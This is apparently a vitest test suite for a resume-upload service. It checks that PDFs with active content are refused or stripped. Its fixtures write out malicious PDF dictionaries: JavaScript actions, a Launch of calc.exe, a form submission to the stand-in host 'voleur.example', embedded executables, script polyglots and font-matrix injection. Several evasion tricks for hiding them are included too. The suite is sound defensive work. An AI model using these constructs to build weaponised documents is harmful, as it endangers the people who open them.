import { deflateSync } from "node:zlib";
import { currentUser } from "contract/account.ts";
import { putFile } from "contract/files.ts";
import { describe, expect, it } from "vitest";
import { resumeOf, streamOf } from "../../../proof/testing/pdf.ts";
import { PROVIDER_KEY, useTestApp } from "../../../proof/testing/test-app.ts";
import { makeCandidate } from "../intake/make.ts";
import { makeHolder } from "../login/make.ts";

const test = useTestApp();

const put = (content: Buffer, name = "cv.pdf") =>
  test.send(putFile, { name, content: new Uint8Array(content) }, { token: PROVIDER_KEY });

/** What a clinic gets of the resume. */
async function served(): Promise<string> {
  await makeCandidate(test.world, { personalResume: "cv.pdf" });
  const token = await test.tokenOf(await makeHolder(test.world));
  const { fileToken } = await test.answer(currentUser, {}, { token });
  return (await test.app.inject(`/veterinary/file/${fileToken}/cv.pdf`)).rawPayload.toString("latin1");
}

const SCRIPT = "PDF qui contient un programme (JavaScript).";
const OPENS = "PDF qui lance un programme ou ouvre un autre fichier.";
const SENDS = "PDF dont le formulaire envoie ou lit des données.";
const MEDIA = "PDF qui contient du son, de la vidéo ou de la 3D.";
const ATTACHED = "PDF qui contient des fichiers joints.";
const XFA = "PDF qui contient un formulaire XFA.";

/** A dictionary that does something, and the sentence with which it is refused. */
const ACTIVE: readonly (readonly [dictionary: string, sentence: string])[] = [
  ["<</S /JavaScript /JS (app.alert\\(1\\))>>", SCRIPT],
  ["<</S /Launch /F (calc.exe)>>", OPENS],
  ["<</S /GoToR /F (\\\\\\\\voleur\\\\partage\\\\a.pdf) /D [0 /Fit]>>", OPENS],
  ["<</S /GoToE /T <</R /C>> /D [0 /Fit]>>", OPENS],
  ["<</S /SubmitForm /F (https://voleur.example/)>>", SENDS],
  ["<</S /ImportData /F (a.fdf)>>", SENDS],
  ["<</S /Rendition /OP 0>>", MEDIA],
  ["<</S /Movie /T (film)>>", MEDIA],
  ["<</S /Sound>>", MEDIA],
  ["<</S /RichMediaExecute>>", MEDIA],
  ["<</Type /Annot /Subtype /RichMedia /Rect [0 0 9 9]>>", MEDIA],
  ["<</Type /Annot /Subtype /3D /Rect [0 0 9 9]>>", MEDIA],
  ["<</Type /Annot /Subtype /Screen /Rect [0 0 9 9]>>", MEDIA],
  ["<</Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9]>>", ATTACHED],
  ["<</Type /Filespec /F (a.exe) /EF <</F 9 0 R>>>>", ATTACHED],
  ["<</Names <</EmbeddedFiles <</Names [(a.exe) 9 0 R]>>>>>>", ATTACHED],
  ["<</Fields [] /XFA [(template) 9 0 R]>>", XFA],
];
const [[JAVASCRIPT] = [""]] = ACTIVE;

/** Objects packed in a compressed stream, the first with the number `first`. */
function packed(first: number, bodies: readonly string[], entries = "", spaces = ""): string {
  const offsets = bodies.map((_, index) => bodies.slice(0, index).join(" ").length + (index === 0 ? 0 : 1));
  const header = `${offsets.map((offset, index) => `${first + index} ${offset}`).join(" ")} `;
  const content = deflateSync(header + bodies.join(" "));
  return streamOf(
    `/Type /ObjStm /N ${bodies.length} /First ${header.length} /Filter /FlateDecode ${entries}${spaces}`,
    content,
  );
}
const escaped = (text: string) =>
  text.replace(/\/[A-Z]\w+/g, (name) => `/#${name.charCodeAt(1).toString(16)}${name.slice(2)}`);

describe("Provider: a resume that does something", () => {
  it.each(ACTIVE)(
    "T-38 %s is refused with a sentence of its own, wherever it is hidden",
    async (dictionary, sentence) => {
      const places: Readonly<Record<string, Buffer>> = {
        "when it opens": resumeOf("CV", { catalog: "/OpenAction 6 0 R", objects: [dictionary] }),
        "for the page": resumeOf("CV", { page: `/AA <</O ${dictionary}>>` }),
        "after another action": resumeOf("CV", {
          catalog: `/OpenAction <</S /GoTo /D [3 0 R /Fit] /Next [6 0 R]>>`,
          objects: [dictionary],
        }),
        "on a click": resumeOf("CV", {
          page: `/Annots [<</Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 6 0 R>>]`,
          objects: [dictionary],
        }),
        "in names with escapes": resumeOf("CV", { catalog: "/OpenAction 6 0 R", objects: [escaped(dictionary)] }),
        "in packed objects": resumeOf("CV", { catalog: "/OpenAction 7 0 R", objects: [packed(7, [dictionary])] }),
        "in packed objects behind 1,100 spaces": resumeOf("CV", {
          catalog: "/OpenAction 7 0 R",
          objects: [packed(7, [dictionary], "", " ".repeat(1100))],
        }),
        "where nothing leads": resumeOf("CV", { objects: [dictionary] }),
        "in a comment": resumeOf("CV", { objects: [`null\nendobj\n%9 0 obj ${dictionary}`] }),
        "in a state before the last": Buffer.concat([
          resumeOf("CV", { catalog: "/OpenAction 6 0 R", objects: [dictionary] }),
          Buffer.from("6 0 obj\nnull\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"),
        ]),
      };
      for (const [place, content] of Object.entries(places)) {
        const response = await put(content);
        expect([place, response.statusCode, response.json()]).toEqual([
          place,
          415,
          { code: "fileRefused", error: sentence },
        ]);
      }
    },
  );

  it("T-38 is refused when its kind stands in another object, or its bytes in another file", async () => {
    const indirect = resumeOf("CV", {
      catalog: "/OpenAction 6 0 R",
      objects: ["<</S 7 0 R /F (calc.exe)>>", "/Launch"],
    });
    expect((await put(indirect)).json().error).toBe(OPENS);
    const outside = resumeOf("CV", { page: "/Thumb 6 0 R", objects: [streamOf("/F (\\\\\\\\voleur\\\\a)", "")] });
    expect((await put(outside)).json().error).toBe(OPENS);
  });

  it("T-38 is refused when it cannot be looked at: encrypted, packed in an unknown way, too deep, without pages", async () => {
    const cases: readonly (readonly [Buffer, string])[] = [
      [
        Buffer.concat([
          resumeOf("CV"),
          Buffer.from("trailer\n<</Root 1 0 R /Encr#79pt <</Filter /Standard /V 1>>>>\n%%EOF\n"),
        ]),
        "PDF chiffré ou protégé.",
      ],
      [resumeOf("CV", { objects: [streamOf("/Type /XRef /Encrypt 9 0 R /Size 1", "")] }), "PDF chiffré ou protégé."],
      [
        resumeOf("CV", { objects: [packed(7, [JAVASCRIPT], "/DecodeParms <</Predictor 12>>")] }),
        "PDF illisible : sa structure est abîmée.",
      ],
      [
        resumeOf("CV", { objects: [streamOf("/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode", "abc")] }),
        "PDF illisible : sa structure est abîmée.",
      ],
      [
        resumeOf("CV", { page: "/Thumb 6 0 R", objects: [streamOf("/Filter /Crypt", "abc")] }).subarray(0, -10),
        "PDF incomplet : la marque de fin manque.",
      ],
      [
        Buffer.from("%PDF-1.4\n1 0 obj\n<</Type /Catalog /Pages 2 0 R>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"),
        "PDF illisible : sa structure est abîmée.",
      ],
      [Buffer.from("%PDF-1.4\n%%EOF\n"), "PDF illisible : sa structure est abîmée."],
    ];
    for (const [content, sentence] of cases) {
      expect((await put(content)).json()).toEqual({ code: "fileRefused", error: sentence });
    }
    expect(await test.world.db.selectFrom("files").selectAll().execute()).toEqual([]);
  });
});

describe("Provider: a resume with links and bookmarks", () => {
  it("T-38 is taken and served without them, nor anything that stands beside its pages", async () => {
    const link = (action: string) =>
      `<</Type /Annot /Subtype /Link /Rect [40 700 90 720] /Border [0 0 0] /A ${action} /AA <</U ${action}>>>>`;
    const actions = [
      "<</S /URI /URI (https://voleur.example/)>>",
      "<</S /Named /N /Print>>",
      "<</S /Hide /T (a)>>",
      "<</S /ResetForm>>",
      "<</S /GoTo3DView>>",
    ];
    const script = "<script>window.attacked = 1</script>";
    const content = resumeOf("CV", {
      catalog: `/OpenAction [3 0 R /Fit] /AA <<>> /URI <</Base (https://voleur.example/)>> /Outlines 6 0 R /Metadata 7 0 R /Lang (fr)`,
      page: `/Annots [${actions.map(link).join("")}] /AA <</O ${actions[0]}>>`,
      objects: [`<</First 8 0 R>>`, streamOf("/Type /Metadata", script), `<</A ${actions[0]} /Title (${script})>>`],
    });
    const polyglot = Buffer.concat([
      content.subarray(0, 9),
      Buffer.from(`%<html>${script}\n`),
      content.subarray(9, -7),
      Buffer.from(`<html>${script} PK\x05\x06\n%%EOF\n<html>${script}`),
    ]);
    expect((await put(polyglot)).statusCode).toBe(200);
    const bytes = await served();
    expect(bytes).toMatch(/^%PDF-1\.7\n/);
    expect(bytes.endsWith("%%EOF\n")).toBe(true);
    expect(bytes).not.toMatch(/script|voleur|\/(A|AA|URI|S|OpenAction|Outlines|Metadata|Named|Dest)\b/);
    expect(bytes).not.toContain(Buffer.from("voleur").toString("hex"));
    // The page is there as it was.
    expect(bytes).toMatch(/\/BaseFont \/Helvetica/);
    expect(bytes).toMatch(/\/MediaBox \[0 0 595 842\]/);
  });

  it("T-38 keeps no program in the numbers of its fonts, and the numbers of those that have none", async () => {
    const program = `(1\\); alert\\(origin)`;
    const matrices = [`[1 2 3 4 5 ${program}]`, "[1 2 3 4 5 7 0 R]", "8 0 R", program, "[0.5 0 0 0.5 0 0]"];
    for (const [number, matrix] of matrices.entries()) {
      const font = `<</Type /Font /Subtype /Type1 /BaseFont /X /Font#4datrix ${matrix}>>`;
      const page = "/Resources <</Font <</A 6 0 R>>>>";
      const content = resumeOf(`CV ${number}`, { page, objects: [font, program, `[0 0 0 0 0 ${program}]`] });
      expect((await put(content)).statusCode).toBe(200);
      const bytes = await served();
      expect(bytes).not.toContain(Buffer.from("alert").toString("hex"));
      expect(bytes.includes("/FontMatrix")).toBe(number === matrices.length - 1);
    }
  });

  it("T-38 has no link left when the link is reached as a drawing first", async () => {
    const link = "<</Subtype /Link /Rect [0 0 9 9] /A <</S /URI /URI (https://voleur.example/)>>>>";
    const page = "/Resources <</Properties <</X 6 0 R>>>> /Annots [6 0 R]";
    expect((await put(resumeOf("CV", { page, objects: [link] }))).statusCode).toBe(200);
    const [annots = ""] = /\/Annots \[\d+/.exec(await served()) ?? [];
    const number = annots.replace(/\D+/, "");
    const object = new RegExp(`\\n${number} 0 obj\\n(.*)\\n`).exec(await served())?.[1];
    expect(object).toBe("<</Subtype /Link /Rect [0 0 9 9]>>");
  });
});
